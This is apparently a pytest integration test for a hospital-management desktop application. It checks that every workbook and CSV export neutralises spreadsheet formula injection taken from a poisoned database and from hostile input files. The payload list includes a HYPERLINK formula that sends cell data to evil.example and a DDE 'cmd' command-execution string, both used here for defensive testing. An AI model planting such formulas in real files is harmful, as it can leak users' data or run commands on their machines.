"""No text of a user, a file or another establishment ever comes out as a live formula.

A database whose every free-text field starts with a formula (and holds a NUL byte stored
before input refused them) goes through every workbook and CSV writer of the application;
each xlsx is opened as a zip and each CSV read raw, and the test asserts that the hostile
text is there, as text: no `<f>` element, no error cell, every dangerous CSV field quoted
and prefixed with a single quote. Our own workbooks hold no formula on purpose.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from contextlib import closing, redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from integration_support import Cli

from hospiperf_desktop.cli import main
from hospiperf_desktop.safe_cells import looks_like_formula

EXAMPLES = Path(__file__).parents[2] / "resources" / "examples"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    " =1+1",
    "#N/A",
)
# Every free-text column an export can show, and a NUL byte in some of them.
USER_TEXT = (
    ("establishments", "name"),
    ("establishments", "ght_name"),
    ("diagnostics", "label"),
    ("diagnostic_answers", "comment"),
    ("plan_actions", "text"),
    ("plan_actions", "indicator"),
    ("plan_actions", "owner"),
    ("products", "label"),
    ("products", "code"),
    ("suppliers", "name"),
    ("stock_lines", "location"),
    ("stock_lines", "lot"),
    ("care_units", "name"),
    ("calculator_scenarios", "name"),
    ("activity_values", "justification"),
)
FINESS = "690990015"  # the demo establishment with stock, diagnostics, activity, scenarios
PASSPHRASE_VAR = "HOSPIPERF_TEST_PASSPHRASE"


def _poison(db: Path) -> None:
    with closing(sqlite3.connect(db)) as conn:
        for index, (table, column) in enumerate(USER_TEXT):
            payload = PAYLOADS[index % len(PAYLOADS)]
            nul = "\x00" if index % 3 == 0 else ""
            conn.execute(
                f"UPDATE {table} SET {column} = ? || COALESCE({column}, '')",
                (payload + nul,),
            )
        conn.commit()


def _hostile_inputs(folder: Path) -> dict[str, Path]:
    logistics = json.loads((EXAMPLES / "logistique-ght.json").read_text(encoding="utf-8"))
    for number, scenario in enumerate(logistics["scenarios"]):
        scenario["name"] = PAYLOADS[number % len(PAYLOADS)] + scenario["name"]
        for site in scenario["sites"]:
            site["name"] = "@" + site["name"]
    paat_lines = (EXAMPLES / "paat-2025.csv").read_text(encoding="utf-8").splitlines()
    paat = [paat_lines[0]] + [
        "=" + line if n % 2 else "-" + line for n, line in enumerate(paat_lines[1:])
    ]
    files = {"logistics": folder / "logistique.json", "purchasing": folder / "paat.csv"}
    files["logistics"].write_text(json.dumps(logistics), encoding="utf-8")
    files["purchasing"].write_text("\n".join(paat) + "\n", encoding="utf-8")
    return files


def _cli(db: Path) -> Cli:
    def run(*args: str) -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        with redirect_stdout(out), redirect_stderr(err):
            try:
                code = main(["--db", str(db), *args])
            except SystemExit as exit_:
                code = int(exit_.code or 0)
        return code, out.getvalue(), err.getvalue()

    return run


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Every workbook and CSV the application writes, from a poisoned database (built once)."""
    tmp_path = tmp_path_factory.mktemp("formulas")
    db = tmp_path / "poisoned.sqlite"
    cli = _cli(db)
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.setenv("HOSPIPERF_DB", str(db))
    assert cli("demo")[0] == 0
    _poison(db)
    out = tmp_path / "out"
    out.mkdir()
    inputs = _hostile_inputs(tmp_path)
    monkeypatch.setenv(PASSPHRASE_VAR, "phrase de passe assez longue")
    commands = [
        ("stock", "indicators", "--establishment", FINESS, "--xlsx", out / "indicateurs.xlsx"),
        ("stock", "reorder", "--establishment", FINESS, "--xlsx", out / "commandes.xlsx"),
        ("diag", "plan", "1", "--xlsx", out / "diagnostic-1.xlsx"),
        ("diag", "plan", "2", "--xlsx", out / "diagnostic-2.xlsx"),
        ("activity", "export", "--establishment", FINESS, "--year", "2026",
         "--xlsx", out / "activite.xlsx"),
        ("dashboard", "--establishment", FINESS, "--year", "2026",
         "--xlsx", out / "tableau-de-bord.xlsx"),
        ("calc", "logistics", inputs["logistics"], "--xlsx", out / "logistique.xlsx"),
        ("calc", "purchasing", inputs["purchasing"], "--xlsx", out / "paat.xlsx"),
        ("calc", "carbon", EXAMPLES / "achats-carbone.csv", "--xlsx", out / "carbone.xlsx"),
        ("keys", "generate", "--establishment", FINESS, "--passphrase-env", PASSPHRASE_VAR),
        ("keys", "export-public", "--establishment", FINESS, "--out", tmp_path / "cle.json"),
        ("bundle", "export", "--establishment", FINESS, "--year", "2026", "--no-pdf",
         "--passphrase-env", PASSPHRASE_VAR, "--out", out / "paquet.zip"),
        ("ars", "keys", "--db-url", tmp_path / "ars.sqlite", "--add", tmp_path / "cle.json"),
        ("ars", "import", out / "paquet.zip", "--db-url", tmp_path / "ars.sqlite"),
        ("ars", "report", "--db-url", tmp_path / "ars.sqlite", "--xlsx", out / "ars.xlsx"),
    ]  # fmt: skip
    for command in commands:
        code, said, err = cli(*map(str, command))
        assert code == 0, (command, err, said)
    with zipfile.ZipFile(out / "paquet.zip") as bundle:
        for name in bundle.namelist():
            if name.endswith((".xlsx", ".csv")):
                (out / ("paquet-" + Path(name).name)).write_bytes(bundle.read(name))
    yield out
    monkeypatch.undo()


def _cells_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as book:
        return {
            name: book.read(name).decode("utf-8")
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def _texts(xml: str) -> list[str]:
    return [
        re.sub(r"<[^>]+>", "", text).replace("&amp;", "&").replace("&quot;", '"')
        for text in re.findall(r"<is>(.*?)</is>", xml, re.DOTALL)
    ]


def test_every_workbook_holds_the_hostile_text_as_text_never_as_a_formula(
    outputs: Path,
) -> None:
    books = sorted(outputs.glob("*.xlsx"))
    assert {p.name for p in books} >= {
        "indicateurs.xlsx", "commandes.xlsx", "diagnostic-1.xlsx", "diagnostic-2.xlsx",
        "activite.xlsx", "tableau-de-bord.xlsx", "logistique.xlsx", "paat.xlsx",
        "carbone.xlsx", "ars.xlsx", "paquet-tableau-de-bord-2026.xlsx",
    }  # fmt: skip
    for book in books:
        sheets = _cells_xml(book)
        for name, xml in sheets.items():
            assert "<f>" not in xml and "<f " not in xml, f"{book.name} {name} holds a formula"
            assert 't="e"' not in xml, f"{book.name} {name} holds an error cell"
            assert 't="str"' not in xml
        texts = [t for xml in sheets.values() for t in _texts(xml)]
        if book.name != "carbone.xlsx":  # built from our own example file only
            hostile = [t for t in texts if looks_like_formula(t) or t.startswith("#N/A")]
            assert hostile, f"{book.name}: the hostile text did not reach the workbook"
        assert not any("\x00" in t for t in texts)


def test_the_nul_byte_stored_before_input_refused_it_does_not_break_the_exports(
    outputs: Path,
) -> None:
    texts = [t for xml in _cells_xml(outputs / "indicateurs.xlsx").values() for t in _texts(xml)]
    assert any("\ufffd" in t and t.startswith(PAYLOADS[0]) for t in texts), (
        "the establishment's name, NUL replaced, heads the summary"
    )


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def test_every_csv_field_that_could_run_is_quoted_and_prefixed(outputs: Path) -> None:
    files = sorted(outputs.glob("paquet-*.csv"))
    assert [p.name for p in files] == [
        "paquet-couverture.csv",
        "paquet-diagnostic-1-plan.csv",
        "paquet-diagnostic-2-plan.csv",
    ]
    protected = 0
    for path in files:
        raw = path.read_bytes().decode("utf-8-sig")
        assert "\x00" not in raw
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=";"):
            for field in row:
                assert not looks_like_formula(field) or _is_number(field), (path.name, field)
                protected += field.startswith("'") and looks_like_formula(field[1:])
        assert '"' in raw, "text fields are quoted"
    assert protected >= 3, "the plan's hostile texts reached the CSV, neutralised"


def test_a_comment_that_looks_like_a_formula_survives_export_and_import_unchanged(
    cli: Cli, tmp_path: Path
) -> None:
    """Text, not a quote-prefixed copy: the answer sheet still imports back as it was."""
    finess = "690990015"
    assert cli("establishment", "add", "--finess", finess, "--name", "CH", "--kind", "ch")[0] == 0
    first = cli("diag", "new", "--template", "conciliation-medicamenteuse",
                "--establishment", finess)[1].strip()  # fmt: skip
    items = json.loads(cli("diag", "show", first, "--json")[1])["items"]
    item = items[0]["id"]
    comment = '=HYPERLINK("http://evil.example","x") -2+3'
    assert cli("diag", "set", first, item, "yes", "--comment", comment)[0] == 0
    book = tmp_path / "diagnostic.xlsx"
    assert cli("diag", "plan", first, "--xlsx", str(book))[0] == 0
    second = cli("diag", "new", "--template", "conciliation-medicamenteuse",
                 "--establishment", finess)[1].strip()  # fmt: skip
    code, _, err = cli("diag", "answer", second, "--file", str(book))
    assert code == 0, err
    answers = {i["id"]: i for i in json.loads(cli("diag", "show", second, "--json")[1])["items"]}
    assert answers[item]["answer"] == "yes"
    assert answers[item]["comment"] == comment
